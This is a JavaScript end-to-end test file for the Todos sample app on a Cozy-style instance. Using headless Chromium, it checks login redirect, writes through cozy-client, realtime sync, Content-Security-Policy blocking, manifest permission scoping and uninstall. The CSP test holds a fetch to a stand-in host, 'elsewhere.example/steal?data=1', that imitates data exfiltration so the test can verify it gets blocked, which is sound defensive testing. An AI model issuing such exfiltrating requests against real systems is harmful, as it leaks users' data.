// The Todos sample app (apps/todos) in headless Chromium: installed from its Cozy archive, opened
// on its own subdomain (todos.<instance>) after the login page, writing through cozy-client and
// following changes of another client (cozy-stack-client, here in node) through cozy-realtime;
// held by its Content-Security-Policy and by its manifest's permissions; gone after uninstall.
import '../lib/localhost-dns.mjs';
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { chromium } from 'playwright-core';
import stackClientModule from 'cozy-stack-client';
import { acquireServer, api, createInstance, releaseServer } from '../lib/hearth.mjs';
import { TODOS_VERSION, todosArchive } from '../lib/sample-app.mjs';

const CozyStackClient = stackClientModule.default;
const CHROMIUM = process.env.HEARTH_E2E_CHROMIUM || '/usr/bin/chromium';
const here = path.dirname(fileURLToPath(import.meta.url));
const reports = path.resolve(process.env.HEARTH_E2E_REPORTS || path.join(here, '..', '..', 'target', 'e2e-reports'));
const PASSPHRASE = 'todos in a real browser';
const DOCTYPE = 'io.cozy.todos';
const missing = !fs.existsSync(CHROMIUM) && !process.env.HEARTH_E2E_REQUIRED
  ? `no Chromium at ${CHROMIUM} (apt-get install chromium)` : false;

let browser;
let page;
let instance;
let appsToken;
let other; // another client of the same instance: cozy-stack-client with a CLI token
let appUrl;
const consoleErrors = [];

before(async () => {
  if (missing) return;
  const archive = todosArchive();
  instance = await createInstance(await acquireServer(), 'todos', { passphrase: PASSPHRASE });
  appsToken = await instance.token('io.cozy.apps');
  other = new CozyStackClient({ uri: instance.url, token: await instance.token(DOCTYPE) });
  appUrl = `http://todos.${instance.domain}/`;
  const installed = await api(instance, appsToken, 'POST', `/apps/todos?Source=${encodeURIComponent(pathToFileURL(archive).href)}`);
  assert.equal(installed.status, 202, JSON.stringify(installed.body));
  assert.equal(installed.body.data.attributes.state, 'ready');
  assert.equal(installed.body.data.attributes.version, TODOS_VERSION);
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync'],
  });
  page = await browser.newPage();
  page.on('console', (m) => {
    if (m.type() === 'error') consoleErrors.push(m.text());
  });
  page.on('pageerror', (e) => consoleErrors.push(`pageerror: ${e.message}`));
  page.on('response', (r) => {
    if (r.status() >= 400) consoleErrors.push(`${r.status()} ${r.request().method()} ${r.url()}`);
  });
});

after(async () => {
  await browser?.close();
  await releaseServer();
});

const rowOf = (label) => page.locator('#list li', { hasText: label });

describe('the Todos sample app in Chromium', { skip: missing }, () => {
  test('opens on its subdomain after the login page, with an app token for the instance', async () => {
    fs.mkdirSync(reports, { recursive: true });
    await page.goto(appUrl);
    const login = new URL(page.url());
    assert.equal(login.host, instance.domain, 'an anonymous visit goes to the instance');
    assert.equal(login.pathname, '/auth/login');
    assert.equal(login.searchParams.get('redirect'), appUrl);

    await page.fill('#password', PASSPHRASE);
    await Promise.all([page.waitForURL(appUrl), page.click('button[type=submit]')]);
    await page.waitForFunction(() => window.todos?.ready === true, null, { timeout: 15_000 }).catch((e) => {
      throw new Error(`the app did not load its todos: ${e.message}; console: ${consoleErrors.join(' | ')}`);
    });
    const cozy = await page.evaluate(() => JSON.parse(document.getElementById('todos').dataset.cozy));
    assert.equal(cozy.domain, instance.domain);
    assert.equal(cozy.subdomain, 'nested');
    assert.equal(cozy.app.slug, 'todos');
    assert.equal(cozy.isLoggedIn, true);
    assert.match(cozy.token, /^[\w-]+\.[\w-]+\.[\w-]+$/, 'a JWT');
    assert.equal(await page.textContent('#status'), '0 todos');
    assert.equal(await page.title(), 'Todos');
  });

  test('todos typed in the page are written through cozy-client', async () => {
    for (const label of ['buy bread', 'water the plants']) {
      await page.fill('#label', label);
      await page.click('#new-todo button[type=submit]');
      await rowOf(label).waitFor();
    }
    await rowOf('buy bread').locator('input[type=checkbox]').check();
    await page.waitForSelector('#list li.done:has-text("buy bread")');
    const { data } = await other.collection(DOCTYPE).all();
    const byLabel = Object.fromEntries(data.map((d) => [d.label, d]));
    assert.deepEqual(Object.keys(byLabel).sort(), ['buy bread', 'water the plants']);
    assert.equal(byLabel['buy bread'].done, true, 'the check went to the server');
    assert.equal(byLabel['water the plants'].done, false);
    await page.screenshot({ path: path.join(reports, 'todos-app.png') });
  });

  test("another client's changes appear live through cozy-realtime", async () => {
    const col = other.collection(DOCTYPE);
    const { data: created } = await col.create({ label: 'written from node', done: false, created_at: new Date().toISOString() });
    await rowOf('written from node').waitFor({ timeout: 10_000 });
    const { data: updated } = await col.update({ ...created, done: true });
    await page.waitForSelector('#list li.done:has-text("written from node")', { timeout: 10_000 });
    await col.destroy(updated);
    await rowOf('written from node').waitFor({ state: 'detached', timeout: 10_000 });
    assert.equal(await page.textContent('#status'), '2 todos');
    // No reload happened: the page's realtime socket brought every change.
    assert.equal(await page.evaluate(() => window.todos.realtime.isWebSocketAuthenticated()), true);
  });

  test('the Content-Security-Policy blocks a request to another site', async () => {
    const violation = await page.evaluate(async () => {
      const seen = new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve({
          directive: e.effectiveDirective, blocked: e.blockedURI, disposition: e.disposition,
        }), { once: true });
      });
      let fetchError = null;
      try {
        await fetch('http://elsewhere.example/steal?data=1', { mode: 'no-cors' });
      } catch (e) {
        fetchError = e.name;
      }
      return { ...(await seen), fetchError };
    });
    assert.equal(violation.directive, 'connect-src');
    assert.equal(violation.disposition, 'enforce');
    assert.match(violation.blocked, /^http:\/\/elsewhere\.example\//);
    assert.equal(violation.fetchError, 'TypeError', 'the fetch failed');
    assert.ok(consoleErrors.some((m) => /Content Security Policy/.test(m) && m.includes('elsewhere.example')),
      `the console tells of the violation: ${consoleErrors.join(' | ')}`);
  });

  test("the app token reads its manifest's doctype and nothing else (403)", async () => {
    const statuses = await page.evaluate(async () => {
      const stack = window.todos.client.getStackClient();
      const status = (p) => stack.fetchJSON('GET', p).then(() => 200, (e) => e.status);
      return {
        todos: await status('/data/io.cozy.todos/_all_docs?include_docs=true'),
        contacts: await status('/data/io.cozy.contacts/_all_docs'),
        files: await status('/data/io.cozy.files/_all_docs'),
        apps: await status('/apps/'),
      };
    });
    assert.deepEqual(statuses, { todos: 200, contacts: 403, files: 403, apps: 403 });
  });

  test('after uninstall the subdomain answers 404 and the app token is refused', async () => {
    const removed = await api(instance, appsToken, 'DELETE', '/apps/todos');
    assert.equal(removed.status, 200, JSON.stringify(removed.body));
    const refused = await page.evaluate(() => window.todos.client.getStackClient()
      .fetchJSON('GET', '/data/io.cozy.todos/_all_docs').then(() => 200, (e) => e.status));
    assert.equal(refused, 403, 'the token of an uninstalled app carries no permission');
    const gone = await page.goto(appUrl);
    assert.equal(gone.status(), 404);
    assert.match(await gone.text(), /Application is not installed/);
    const asset = await page.goto(`${appUrl}icon.svg`);
    assert.equal(asset.status(), 404);
    // The documents are the user's: they stay.
    assert.equal((await other.collection(DOCTYPE).all()).data.length, 2);
    const scriptErrors = consoleErrors.filter((m) => /Uncaught|pageerror/.test(m));
    assert.deepEqual(scriptErrors, [], 'no script error in the app');
  });
});
